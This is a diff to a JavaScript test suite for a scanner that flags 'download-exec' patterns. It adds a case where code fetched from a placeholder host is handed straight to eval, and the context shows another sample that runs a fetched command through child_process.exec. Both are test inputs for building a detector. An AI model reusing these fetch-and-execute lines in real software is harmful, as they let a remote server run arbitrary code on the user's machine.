@@ -190,6 +190,8 @@ describe('correlation: download-exec', () => {
       'const cp=require("child_process");function d(){fetch("https://x.example.com/cmd").then(r=>r.json()).then(j=>cp.exec(j.command))}',
     ].join('\n');
     assert.deepEqual(only('download-exec', code).map(f => `${f.line} ${f.severity}`), ['1 high', '2 high', '3 high', '4 high']);
+    const handed = 'function a(){return fetch("https://x.example.com/a.js").then(r=>r.text()).then(eval)}';
+    assert.deepEqual(only('download-exec', handed).map(f => `${f.severity} ${f.message}`), ['high Runs code that comes from a network response (eval given to .then)'], 'the evaluator itself given to .then');
   });
 
   it('does not take what a .then callback does with its own values for the response', () => {
